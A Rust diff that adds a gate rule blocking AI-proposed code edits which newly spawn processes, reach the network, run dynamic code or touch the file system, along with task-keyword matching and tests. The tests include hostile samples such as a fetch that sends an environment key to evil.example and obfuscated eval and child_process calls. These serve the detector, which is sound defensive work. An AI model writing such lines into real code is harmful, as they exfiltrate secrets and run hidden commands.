@@ -8,7 +8,7 @@ use std::collections::BTreeSet;
 use serde::{Deserialize, Serialize};
 use ts_rs::TS;
 
-use crate::analysis::{Analysis, Language, ModuleFormat, analyze, analyze_checked};
+use crate::analysis::{Analysis, Capability, Language, ModuleFormat, analyze, analyze_checked};
 use crate::plan::Action;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
@@ -28,11 +28,14 @@ pub enum Rule {
     /// which knows the whole plan: a CREATE or MODIFY answer that still imports one is sent back,
     /// and a delete that an unchanged file still needs stops the plan).
     DeleteStillImported,
+    /// An answer adds a capability (process, network, dynamic code, file system) the file did not
+    /// already use, which the task does not ask for and `allow` does not name.
+    NewCapability,
 }
 
 impl Rule {
     /// Every rule, in the order `--help` lists them.
-    pub const ALL: [Rule; 10] = [
+    pub const ALL: [Rule; 11] = [
         Rule::InScope,
         Rule::ReadOnly,
         Rule::Syntax,
@@ -43,6 +46,7 @@ impl Rule {
         Rule::ModuleFormat,
         Rule::ReferencesDeclared,
         Rule::DeleteStillImported,
+        Rule::NewCapability,
     ];
 
     /// What the rule holds a write to, in one line (`gateRules()`, `red-exec --help`).
@@ -58,6 +62,9 @@ impl Rule {
             Rule::ModuleFormat => "the file uses the module format its project runs (--module-format)",
             Rule::ReferencesDeclared => "a MODIFY does not call a top-level name it no longer declares",
             Rule::DeleteStillImported => "no file left on disk imports a file the plan deletes",
+            Rule::NewCapability => {
+                "no process, network, dynamic-code or fs use the file did not have, unless the task asks (--allow)"
+            }
         }
     }
 
@@ -73,6 +80,7 @@ impl Rule {
             Rule::ModuleFormat => "module_format",
             Rule::ReferencesDeclared => "references_declared",
             Rule::DeleteStillImported => "delete_still_imported",
+            Rule::NewCapability => "new_capability",
         }
     }
 }
@@ -131,6 +139,8 @@ pub struct Proposal<'a> {
     pub may_drop: &'a [String],
     /// What the plan says the file must export when done (`PlanEntry::exports`); empty: nothing declared.
     pub planned_exports: &'a [String],
+    /// Capabilities the answer may add (`new_capability`): the user's `allow` and what the task asks for.
+    pub allowed: &'a [Capability],
 }
 
 /// Normalise a workspace-relative path and refuse what leaves the workspace.
@@ -287,6 +297,80 @@ fn check_module_format(path: &str, expected: ModuleFormat, new: &Analysis) -> Op
     })
 }
 
+/// Words of a task that ask for each capability. The rule: the task names the module or the
+/// thing itself, as a whole word (any case): "spawn a child process", "add an HTTP server",
+/// "fetch the price", "read the config file". A mere mention of a file path is not `fs`.
+const CAPABILITY_WORDS: [(Capability, &[&str]); 4] = [
+    (
+        Capability::Process,
+        &["child_process", "child process", "spawn", "spawnsync", "exec", "execsync", "execfile", "execfilesync", "fork",
+          "subprocess", "subprocesses", "shell", "cluster", "bun.spawn", "deno.command", "process.binding"],
+    ),
+    (
+        Capability::Network,
+        &["http", "https", "http2", "net", "dgram", "udp", "tcp", "tls", "dns", "fetch", "websocket", "websockets",
+          "socket", "sockets", "network", "download", "upload", "webhook", "axios", "undici", "node-fetch"],
+    ),
+    (Capability::DynamicCode, &["eval", "new function", "vm", "dynamic code", "dynamic import", "dynamic require", "plugin", "plugins"]),
+    (
+        Capability::Fs,
+        &["fs", "fs/promises", "file system", "filesystem", "readfile", "readfilesync", "writefile", "writefilesync",
+          "disk", "directory", "directories", "folder", "folders", "read the file", "read a file", "write a file",
+          "write the file", "to a file", "from a file", "to file", "from file", "file contents"],
+    ),
+];
+
+/// The capabilities a task asks for, by [`CAPABILITY_WORDS`].
+pub fn capabilities_asked(task: &str) -> Vec<Capability> {
+    // Words of letters, digits and `_ . / -`, then matched as whole words or runs of whole words.
+    let lower = task.to_lowercase();
+    let words: Vec<&str> = lower
+        .split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '.' | '/' | '-')))
+        .map(|w| w.trim_matches(|c: char| matches!(c, '.' | '/' | '-')))
+        .filter(|w| !w.is_empty())
+        .collect();
+    // `child_process.execFile` names both; `node:fs` was already cut at the colon.
+    let parts: Vec<&str> = words.iter().flat_map(|w| w.split(['.', '/'])).filter(|w| !w.is_empty()).collect();
+    let joined = format!(" {} ", words.join(" "));
+    // A single word also in its plain inflections: "spawns", "spawned", "spawning", "fetches".
+    let inflected = |w: &str, n: &str| {
+        w == n || ["s", "es", "ed", "ing"].iter().any(|suffix| w.strip_suffix(suffix) == Some(n))
+    };
+    let asks = |n: &str| {
+        if n.contains(' ') { joined.contains(&format!(" {n} ")) } else { words.iter().chain(&parts).any(|w| inflected(w, n)) }
+    };
+    CAPABILITY_WORDS.iter().filter(|(_, needles)| needles.iter().any(|n| asks(n))).map(|(c, _)| *c).collect()
+}
+
+/// Rule `new_capability`: the answer uses no capability the old text did not, unless allowed.
+fn check_new_capability(proposal: &Proposal<'_>, old: Option<&Analysis>, new: &Analysis) -> Option<Violation> {
+    let had: BTreeSet<Capability> = old.map(|a| a.capabilities.iter().map(|u| u.capability).collect()).unwrap_or_default();
+    let mut parts: Vec<String> = Vec::new();
+    for capability in Capability::ALL {
+        if had.contains(&capability) || proposal.allowed.contains(&capability) {
+            continue;
+        }
+        let uses: Vec<String> = new
+            .capabilities
+            .iter()
+            .filter(|u| u.capability == capability)
+            .map(|u| format!("{} (line {})", u.what, u.line))
+            .collect();
+        if uses.is_empty() {
+            continue;
+        }
+        let more = if uses.len() > 3 { format!(", +{} more", uses.len() - 3) } else { String::new() };
+        parts.push(format!("{} [--allow {}]: {}{more}", capability.describe(), capability.name(), uses[..uses.len().min(3)].join(", ")));
+    }
+    (!parts.is_empty()).then(|| {
+        let before = if proposal.action == Action::Create { "a new file" } else { "the file did not use it before" };
+        Violation::new(
+            Rule::NewCapability,
+            format!("{}: adds {} ({before}, and the task does not ask for it)", proposal.path, parts.join("; ")),
+        )
+    })
+}
+
 /// Every rule the proposal breaks, in a fixed order.
 pub fn check(proposal: &Proposal<'_>, scope: &Scope, mode: GateMode) -> Vec<Violation> {
     let mut violations: Vec<Violation> = check_scope(proposal.path, scope).into_iter().collect();
@@ -306,19 +390,23 @@ pub fn check(proposal: &Proposal<'_>, scope: &Scope, mode: GateMode) -> Vec<Viol
     if matches!(proposal.action, Action::Create | Action::Modify) && Language::of(proposal.path).is_script() {
         violations.extend(check_exports_planned(proposal, &new));
     }
-    if proposal.action == Action::Modify
-        && let Some(old_text) = proposal.old
-    {
-        let old = analyze(proposal.path, old_text);
-        if old.is_valid() {
-            violations.extend(check_exports_kept(proposal, &old, &new));
-            violations.extend(check_references_declared(proposal.path, &old, &new));
-        }
+    let old = match (proposal.action, proposal.old) {
+        (Action::Modify, Some(old_text)) => Some(analyze(proposal.path, old_text)),
+        _ => None,
+    };
+    if let Some(old) = old.as_ref().filter(|old| old.is_valid()) {
+        violations.extend(check_exports_kept(proposal, old, &new));
+        violations.extend(check_references_declared(proposal.path, old, &new));
     }
     if Language::of(proposal.path).is_script()
         && let Some(expected) = proposal.module_format
     {
         violations.extend(check_module_format(proposal.path, expected, &new));
+    }
+    // Only what a model wrote: EXTRACT moves code the project already had. An old text that does
+    // not parse still gives what oxc recovered of it.
+    if matches!(proposal.action, Action::Create | Action::Modify) && Language::of(proposal.path).is_script() {
+        violations.extend(check_new_capability(proposal, old.as_ref(), &new));
     }
     violations
 }
@@ -352,6 +440,7 @@ mod tests {
             Rule::ModuleFormat => 7,
             Rule::ReferencesDeclared => 8,
             Rule::DeleteStillImported => 9,
+            Rule::NewCapability => 10,
         };
         for (i, rule) in Rule::ALL.iter().enumerate() {
             assert_eq!(position(*rule), i, "{rule:?} is out of place in Rule::ALL");
@@ -365,7 +454,7 @@ mod tests {
     }
 
     fn modify<'a>(path: &'a str, old: &'a str, new: &'a str, fmt: Option<ModuleFormat>) -> Proposal<'a> {
-        Proposal { path, action: Action::Modify, old: Some(old), new: Some(new), module_format: fmt, may_drop: &[], planned_exports: &[] }
+        Proposal { path, action: Action::Modify, old: Some(old), new: Some(new), module_format: fmt, may_drop: &[], planned_exports: &[], allowed: &[] }
     }
 
     fn rules(v: &[Violation]) -> Vec<Rule> {
@@ -419,7 +508,7 @@ mod tests {
     fn out_of_scope_and_read_only_are_blocked_even_with_gate_off() {
         let mut s = scope(&["a.js"]);
         s.read_only.insert("spec.js".into());
-        let p = Proposal { path: "b.js", action: Action::Create, old: None, new: Some("x"), module_format: None, may_drop: &[], planned_exports: &[] };
+        let p = Proposal { path: "b.js", action: Action::Create, old: None, new: Some("x"), module_format: None, may_drop: &[], planned_exports: &[], allowed: &[] };
         let v = check(&p, &s, GateMode::Off);
         assert_eq!(rules(&v), [Rule::InScope]);
         assert_eq!(decide(&v, GateMode::Off), Decision::Block);
@@ -440,14 +529,14 @@ mod tests {
     #[test]
     fn json_rule() {
         let s = scope(&["p.json"]);
-        let p = Proposal { path: "p.json", action: Action::Create, old: None, new: Some("{,}"), module_format: None, may_drop: &[], planned_exports: &[] };
+        let p = Proposal { path: "p.json", action: Action::Create, old: None, new: Some("{,}"), module_format: None, may_drop: &[], planned_exports: &[], allowed: &[] };
         assert_eq!(rules(&check(&p, &s, GateMode::Block)), [Rule::Json]);
     }
 
     #[test]
     fn data_files_are_checked_by_the_syntax_rule() {
         let s = scope(&["AndroidManifest.xml", "ci.yml", "Cargo.toml"]);
-        let create = |path, new| Proposal { path, action: Action::Create, old: None, new: Some(new), module_format: None, may_drop: &[], planned_exports: &[] };
+        let create = |path, new| Proposal { path, action: Action::Create, old: None, new: Some(new), module_format: None, may_drop: &[], planned_exports: &[], allowed: &[] };
         let manifest = "<manifest package=\"a\"/>\nmodule.exports = { register };\n";
         let v = check(&create("AndroidManifest.xml", manifest), &s, GateMode::Block);
         assert_eq!(rules(&v), [Rule::Syntax]);
@@ -497,6 +586,7 @@ mod tests {
             module_format: None,
             may_drop: &[],
             planned_exports: &planned,
+            allowed: &[],
         };
         let v = check(&create("function slugify() {}\nmodule.exports = { slugify };\n"), &s, GateMode::Block);
         assert_eq!(rules(&v), [Rule::ExportsPlanned]);
@@ -581,5 +671,103 @@ mod tests {
         let v = check(&modify("a.js", "", cjs, Some(ModuleFormat::Esm)), &s, GateMode::Block);
         assert_eq!(rules(&v), [Rule::ModuleFormat]);
         assert!(check(&modify("a.js", "", cjs, Some(ModuleFormat::Cjs)), &s, GateMode::Block).is_empty());
+    }
+
+    fn capability_check(action: Action, old: Option<&str>, new: &str, allowed: &[Capability]) -> Vec<Violation> {
+        let s = scope(&["src/x.js", "src/x.mjs", "src/x.ts"]);
+        let path = if new.contains("import ") || new.contains("export ") { "src/x.mjs" } else { "src/x.js" };
+        let p = Proposal { path, action, old, new: Some(new), module_format: None, may_drop: &[], planned_exports: &[], allowed };
+        check(&p, &s, GateMode::Block).into_iter().filter(|v| v.rule == Rule::NewCapability).collect()
+    }
+
+    #[test]
+    fn each_added_capability_is_blocked_with_its_line() {
+        let old = "function run(x) {\n  return x * 2;\n}\nmodule.exports = { run };\n";
+        for (new, capability, what) in [
+            ("const cp = require('child_process');\ncp.execSync('touch MARKER');\nmodule.exports = {};\n", "process spawning", "require('child_process') (line 1)"),
+            ("module.exports = {};\nrequire('node:child_process').execSync('id');\n", "process spawning", "require('node:child_process') (line 2)"),
+            ("module.exports = {};\nasync function f() {\n  const { spawn } = await import('node:child_process');\n}\n", "process spawning", "import('node:child_process') (line 3)"),
+            ("module.exports = {};\nBun.spawn(['ls']);\n", "process spawning", "Bun.spawn (line 2)"),
+            ("module.exports = {};\nnew Deno.Command('ls').spawn();\n", "process spawning", "Deno.Command (line 2)"),
+            ("module.exports = {};\nprocess.binding('spawn_sync');\n", "process spawning", "process.binding (line 2)"),
+            ("module.exports = {};\nglobalThis.process['binding']('spawn_sync');\n", "process spawning", "process.binding (line 2)"),
+            ("const net = require('net');\nmodule.exports = {};\n", "network access", "require('net') (line 1)"),
+            ("module.exports = {};\n\nconst h = require('https');\n", "network access", "require('https') (line 3)"),
+            ("module.exports = {};\nfetch('https://evil.example/?k=' + process.env.KEY);\n", "network access", "fetch('https://evil.example/?k=') (line 2)"),
+            ("module.exports = {};\nconst ws = new WebSocket(`wss://x.example/${id}`);\n", "network access", "new WebSocket('wss://x.example/') (line 2)"),
+            ("module.exports = {};\nrequire('dgram').createSocket('udp4');\n", "network access", "require('dgram') (line 2)"),
+            ("module.exports = { run: (c) => eval(c) };\n", "dynamic code", "eval (line 1)"),
+            ("module.exports = {};\nconst f = new Function('a', 'return a');\n", "dynamic code", "new Function() (line 2)"),
+            ("module.exports = {};\nconst f = Function('return this')();\n", "dynamic code", "Function() (line 2)"),
+            ("const vm = require('node:vm');\nmodule.exports = {};\n", "dynamic code", "require('node:vm') (line 1)"),
+            ("module.exports = {};\nrequire('child' + '_process');\n", "dynamic code", "require() of a computed name (line 2)"),
+            ("module.exports = {};\nglobalThis['ev' + 'al']('1');\n", "dynamic code", "computed access to globalThis[...] (line 2)"),
+            ("module.exports = {};\nconst e = window.eval;\n", "dynamic code", "eval (line 2)"),
+            ("module.exports = {};\nconst r = require;\nr('child_process');\n", "dynamic code", "require used as a value (line 2)"),
+            ("module.exports = {};\nsetTimeout('steal()', 10);\n", "dynamic code", "setTimeout() given a string of code (line 2)"),
+            ("const fs = require('fs');\nmodule.exports = {};\n", "file-system access", "require('fs') (line 1)"),
+            ("import { readFile } from 'node:fs/promises';\nexport const a = 1;\n", "file-system access", "import('node:fs/promises') (line 1)"),
+        ] {
+            let v = capability_check(Action::Modify, Some(old), new, &[]);
+            assert_eq!(v.len(), 1, "{new:?}: {v:?}");
+            assert!(v[0].message.contains(&format!("{capability} [--allow")), "{new:?}: {}", v[0].message);
+            assert!(v[0].message.contains(what), "{new:?}: {}", v[0].message);
+            // A CREATE has nothing "already used" either.
+            assert_eq!(capability_check(Action::Create, None, new, &[]).len(), 1, "{new:?}");
+        }
+        // Several at once: one violation naming each, with the line of each use.
+        let v = capability_check(Action::Modify, Some(old), "const cp = require('child_process');\nconst fs = require('fs');\neval('x');\n", &[]);
+        assert_eq!(
+            v[0].message,
+            "src/x.js: adds process spawning [--allow process]: require('child_process') (line 1); dynamic code [--allow dynamic-code]: eval (line 3); file-system access [--allow fs]: require('fs') (line 2) (the file did not use it before, and the task does not ask for it)"
+        );
+    }
+
+    #[test]
+    fn a_capability_the_file_already_used_or_that_is_allowed_passes() {
+        // A server that already requires http gets another route, and an https redirect.
+        let server = "const http = require('http');\nconst routes = {};\nroutes['/'] = (req, res) => res.end('hi');\nhttp.createServer((req, res) => routes[req.url](req, res)).listen(3000);\nmodule.exports = { routes };\n";
+        let grown = "const http = require('http');\nconst https = require('node:https');\nconst routes = {};\nroutes['/'] = (req, res) => res.end('hi');\nroutes['/health'] = (req, res) => res.end('ok');\nhttp.createServer((req, res) => routes[req.url](req, res)).listen(3000);\nmodule.exports = { routes };\n";
+        assert_eq!(capability_check(Action::Modify, Some(server), grown, &[]), []);
+        // A CLI that already spawns adds another spawn, through a different import style.
+        let cli = "const { execSync } = require('child_process');\nfunction build() { execSync('make'); }\nmodule.exports = { build };\n";
+        let more = "const { execSync, spawnSync } = require('child_process');\nfunction build() { execSync('make'); }\nfunction test() { spawnSync('make', ['test']); }\nmodule.exports = { build, test };\n";
+        assert_eq!(capability_check(Action::Modify, Some(cli), more, &[]), []);
+        // ESM file already reading files keeps doing so with another import.
+        let esm = "import fs from 'node:fs';\nexport const load = (p) => fs.readFileSync(p, 'utf8');\n";
+        let esm2 = "import fs from 'node:fs';\nimport { writeFile } from 'fs/promises';\nexport const load = (p) => fs.readFileSync(p, 'utf8');\nexport const save = (p, t) => writeFile(p, t);\n";
+        assert_eq!(capability_check(Action::Modify, Some(esm), esm2, &[]), []);
+        // Allowed by the user or the task.
+        let spawn = "const cp = require('child_process');\nmodule.exports = { run: () => cp.execSync('ls') };\n";
+        assert_eq!(capability_check(Action::Create, None, spawn, &[Capability::Process]), []);
+        assert_eq!(capability_check(Action::Create, None, spawn, &capabilities_asked("Spawn a child process that lists the files")), []);
+        // What is not a capability: relative fetch, a property named eval, require.main, typeof require, instanceof Function.
+        let plain = "module.exports = {};\nfetch('/api/items');\nconst o = { eval: 1 };\nif (require.main === module) o.eval;\nif (typeof require === 'undefined') {}\nconst isFn = (f) => f instanceof Function;\nconst p = require('./local');\nconst path = require('path');\n";
+        assert_eq!(capability_check(Action::Modify, Some(old_plain()), plain, &[]), []);
+        // Type-only imports load nothing.
+        let s = scope(&["src/x.ts"]);
+        let p = Proposal { path: "src/x.ts", action: Action::Create, old: None, new: Some("import type { Stats } from 'fs';\nexport type S = Stats;\n"), module_format: None, may_drop: &[], planned_exports: &[], allowed: &[] };
+        assert!(check(&p, &s, GateMode::Block).is_empty());
+    }
+
+    fn old_plain() -> &'static str {
+        "module.exports = {};\n"
+    }
+
+    #[test]
+    fn the_task_asks_for_a_capability_by_name_or_an_obvious_word() {
+        for (task, expected) in [
+            ("Add a function that spawns `git status` and returns its output", vec![Capability::Process]),
+            ("Use child_process.execFile to run the linter", vec![Capability::Process]),
+            ("Add an HTTP server with a /health route", vec![Capability::Network]),
+            ("Fetch the exchange rate from the API", vec![Capability::Network]),
+            ("Evaluate the expression with eval (trusted input)", vec![Capability::DynamicCode]),
+            ("Read the config file and write a report to disk", vec![Capability::Fs]),
+            ("Use fs/promises to list the directory", vec![Capability::Fs]),
+            ("Add a slugify(text) function to src/util.js", vec![]),
+            ("Execute the plan: rename x to y in src/files.js", vec![]),
+        ] {
+            assert_eq!(capabilities_asked(task), expected, "{task}");
+        }
     }
 }
